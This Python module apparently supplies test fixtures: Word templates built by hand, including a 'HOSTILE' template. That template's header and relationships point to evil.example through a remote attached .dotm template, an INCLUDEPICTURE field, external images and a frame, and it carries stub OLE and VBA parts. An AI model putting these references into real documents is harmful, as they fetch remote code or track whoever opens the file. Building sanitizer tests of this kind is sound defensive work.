"""Word files that a unit may give us as its template, made by hand part by part."""

import struct
import zlib
from dataclasses import dataclass, field

from handmade import LINKS, PACKAGE, Parts, packed

WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
ART = "http://schemas.openxmlformats.org/drawingml/2006/main"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
NAMES = (
    f'xmlns:w="{WORD}" xmlns:r="{LINKS}" xmlns:a="{ART}"'
    ' xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"'
    ' xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"'
    ' xmlns:v="urn:schemas-microsoft-com:vml"'
    ' xmlns:o="urn:schemas-microsoft-com:office:office"'
    ' xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"'
    ' xmlns:wps="http://schemas.microsoft.com/office/word/2010/wordprocessingShape"'
)


def style(key: str, name: str, inside: str = "", *, kind: str = "paragraph") -> str:
    """Return a style; what is called 正文 or Normal is that of plain paragraphs."""
    usual = ' w:default="1"' if name in {"Normal", "正文"} else ""
    return (
        f'<w:style w:type="{kind}"{usual} w:styleId="{key}"><w:name w:val="{name}"/>'
        f"{inside}</w:style>"
    )


def pair(face: str) -> str:
    """Return the fonts as people pair them: quotation marks come out in Times."""
    return f'<w:rFonts w:ascii="Times New Roman" w:hAnsi="Times New Roman" w:eastAsia="{face}"/>'


def look(paragraph: str = "", letters: str = "") -> str:
    return f"<w:pPr>{paragraph}</w:pPr><w:rPr>{letters}</w:rPr>"


IN = '<w:ind w:firstLineChars="200" w:firstLine="640"/>'
NORMAL = style(
    "a",
    "Normal",
    look(
        '<w:spacing w:line="560" w:lineRule="exact"/><w:jc w:val="both"/>',
        f'{pair("仿宋")}<w:sz w:val="32"/>',
    ),
)
# As WPS numbers its styles.
WPS = {
    "Normal": NORMAL,
    "Body Text": style("3", "Body Text", f'<w:basedOn w:val="a"/>{look(IN)}'),
    "Title": style(
        "7",
        "Title",
        '<w:basedOn w:val="a"/>'
        + look('<w:jc w:val="center"/>', f'{pair("方正小标宋简体")}<w:sz w:val="44"/>'),
    ),
    "heading 1": style(
        "2",
        "heading 1",
        '<w:basedOn w:val="a"/>' + look(f"{IN}<w:outlineLvl w:val='0'/>", pair("黑体")),
    ),
    "heading 2": style(
        "4",
        "heading 2",
        '<w:basedOn w:val="a"/>' + look(f"{IN}<w:outlineLvl w:val='1'/>", pair("楷体")),
    ),
    "heading 3": style("5", "heading 3", f'<w:basedOn w:val="a"/>{look(IN, "<w:b/>")}'),
    "header": style("6", "header", '<w:basedOn w:val="a"/>'),
}
SECTION = (
    '<w:pgSz w:w="11906" w:h="16838"/><w:pgMar w:top="2098" w:right="1474" w:bottom="1984"'
    ' w:left="1587" w:header="851" w:footer="1400" w:gutter="0"/>'
    '<w:docGrid w:type="lines" w:linePitch="312"/>'
)


def png(shade: int = 200) -> bytes:
    """Return a picture of eight points by eight in one shade of red."""

    def chunk(kind: bytes, content: bytes) -> bytes:
        checked = struct.pack(">I", zlib.crc32(kind + content))
        return struct.pack(">I", len(content)) + kind + content + checked

    rows = (b"\0" + bytes((shade, 0, 0)) * 8) * 8
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", 8, 8, 8, 2, 0, 0, 0))
        + chunk(b"IDAT", zlib.compress(rows))
        + chunk(b"IEND", b"")
    )


def picture(key: str, *, more: str = "") -> str:
    """Return a run with a picture on a line."""
    return (
        '<w:r><w:drawing><wp:inline><wp:extent cx="720000" cy="720000"/>'
        f'<wp:docPr id="1" name="C:\\秦越\\徽.png" descr="秦越画">{more}</wp:docPr>'
        '<a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture">'
        '<pic:pic><pic:nvPicPr><pic:cNvPr id="1" name="徽"/><pic:cNvPicPr/></pic:nvPicPr>'
        f'<pic:blipFill><a:blip r:embed="{key}"/><a:stretch><a:fillRect/></a:stretch>'
        '</pic:blipFill><pic:spPr><a:xfrm><a:off x="0" y="0"/>'
        '<a:ext cx="720000" cy="720000"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/>'
        "</a:prstGeom></pic:spPr></pic:pic></a:graphicData></a:graphic></wp:inline>"
        "</w:drawing></w:r>"
    )


def run(words: str) -> str:
    return f'<w:r><w:t xml:space="preserve">{words}</w:t></w:r>'


def field_of(instruction: str, shown: str) -> str:
    """Return a field as Word writes it, in runs of its own."""
    mark = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
    return (
        f"{mark.format('begin')}<w:r><w:instrText> {instruction} </w:instrText></w:r>"
        f"{mark.format('separate')}{run(shown)}{mark.format('end')}"
    )


@dataclass(frozen=True, slots=True, kw_only=True)
class Link:
    """A reference of a part: its id, kind and target, and whether it leads out."""

    key: str
    kind: str
    target: str
    out: bool = False

    @property
    def xml(self) -> str:
        mode = ' TargetMode="External"' if self.out else ""
        return (
            f'<Relationship Id="{self.key}" Type="{LINKS}/{self.kind}"'
            f' Target="{self.target}"{mode}/>'
        )


def links_part(*links: Link) -> str:
    inside = "".join(each.xml for each in links)
    return f'<Relationships xmlns="{PACKAGE}">{inside}</Relationships>'


@dataclass(frozen=True, slots=True, kw_only=True)
class Unit:
    """A unit's file. `header` and `footer` are the insides of paragraphs, "" for none."""

    styles: str = "".join(WPS.values())
    section: str = SECTION
    header: str = ""
    footer: str = ""
    links: tuple[Link, ...] = ()  # of the header
    settings: str = ""
    others: Parts = field(default_factory=dict)
    more_links: tuple[Link, ...] = ()  # of the text
    body: str = "<w:p><w:r><w:t>秦越拟的旧稿</w:t></w:r></w:p>"

    @property
    def parts(self) -> Parts:
        section, links = self.section, [Link(key="rS", kind="styles", target="styles.xml")]
        made: Parts = {
            "_rels/.rels": links_part(
                Link(key="r1", kind="officeDocument", target="word/document.xml")
            ),
            "word/styles.xml": f"<w:styles {NAMES}>{self.styles}</w:styles>",
            "docProps/core.xml": "<x>秦越</x>",
            "docProps/app.xml": "<x>示例公司</x>",
        }
        for kind, tag, inside in (
            ("footer", "ftr", self.footer),
            ("header", "hdr", self.header),
        ):
            if inside:
                made[f"word/{kind}7.xml"] = (
                    f"<w:{tag} {NAMES}><w:p>{inside}</w:p></w:{tag}>"
                )
                links.append(Link(key=f"r{kind}", kind=kind, target=f"{kind}7.xml"))
                section = f'<w:{kind}Reference w:type="default" r:id="r{kind}"/>{section}'
        if self.links:
            made["word/_rels/header7.xml.rels"] = links_part(*self.links)
        if self.settings:
            made["word/settings.xml"] = f"<w:settings {NAMES}>{self.settings}</w:settings>"
            links.append(Link(key="rSet", kind="settings", target="settings.xml"))
        made["word/_rels/document.xml.rels"] = links_part(*links, *self.more_links)
        made["word/document.xml"] = (
            f"<w:document {NAMES}><w:body>{self.body}<w:sectPr>{section}</w:sectPr>"
            "</w:body></w:document>"
        )
        return made | self.others

    @property
    def file(self) -> bytes:
        return packed(self.parts)


HOSTILE = Unit(
    header=(
        run("示例公司")
        + picture("rGood", more='<a:hlinkClick r:id="rOut"/>')
        + picture("rOut")
        + picture("rMeta")
        + field_of("INCLUDEPICTURE http://evil.example/x.png", "图")
        + field_of("AUTHOR", "秦越")
        + '<w:fldSimple w:instr=" DOCPROPERTY Company "><w:r><w:t>别的公司</w:t></w:r></w:fldSimple>'
        + '<w:hyperlink r:id="rOut"><w:r><w:t>办公室</w:t></w:r></w:hyperlink>'
        + '<w:r><w:object><o:OLEObject Type="Embed" ProgID="Package" r:id="rOle"/></w:object></w:r>'
        + '<w:r><w:pict><v:shape><v:imagedata src="http://evil.example/y.png"/></v:shape></w:pict></w:r>'
        + '<w:r><w:pict><v:shape><v:imagedata r:id="rOut"/></v:shape></w:pict></w:r>'
        + "<mc:AlternateContent><mc:Choice Requires='wps'><w:r><wps:wsp/></w:r></mc:Choice>"
        "<mc:Fallback><w:r><w:t>红线</w:t></w:r></mc:Fallback></mc:AlternateContent>"
        + '<w:ins w:author="秦越"><w:r><w:t>新</w:t></w:r></w:ins>'
        '<w:del w:author="秦越"><w:r><w:delText>旧</w:delText></w:r></w:del>'
        '<w:bookmarkStart w:id="9" w:name="tg_title"/><w:bookmarkEnd w:id="9"/>'
        '<w:commentReference w:id="1"/>'
    ),
    footer=field_of("PAGE \\* MERGEFORMAT", "1") + run("/") + field_of("NUMPAGES", "9"),
    links=(
        Link(key="rGood", kind="image", target="media/徽.png"),
        Link(key="rOut", kind="image", target="http://evil.example/z.png", out=True),
        Link(key="rMeta", kind="image", target="media/图.wmf"),
        Link(key="rOle", kind="oleObject", target="embeddings/1.bin"),
    ),
    settings=(
        '<w:attachedTemplate r:id="rT"/><w:evenAndOddHeaders/>'
        '<w:documentProtection w:edit="readOnly" w:enforcement="1"/>'
        '<w:rsids><w:rsid w:val="00AA"/></w:rsids><w:docVars><w:docVar w:name="秦越"/></w:docVars>'
    ),
    others={
        "word/media/徽.png": png(),
        "word/media/图.wmf": b"\xd7\xcd\xc6\x9a" + bytes(40),
        "word/embeddings/1.bin": OLE,
        "word/vbaProject.bin": OLE,
        "word/_rels/settings.xml.rels": links_part(
            Link(
                key="rT",
                kind="attachedTemplate",
                target="http://evil.example/t.dotm",
                out=True,
            )
        ),
        "customXml/item1.xml": "<x>秦越</x>",
        "docProps/custom.xml": "<x>秦越</x>",
    },
    more_links=(
        Link(key="rV", kind="vbaProject", target="vbaProject.bin"),
        Link(key="rF", kind="frame", target="http://evil.example/f.htm", out=True),
    ),
)
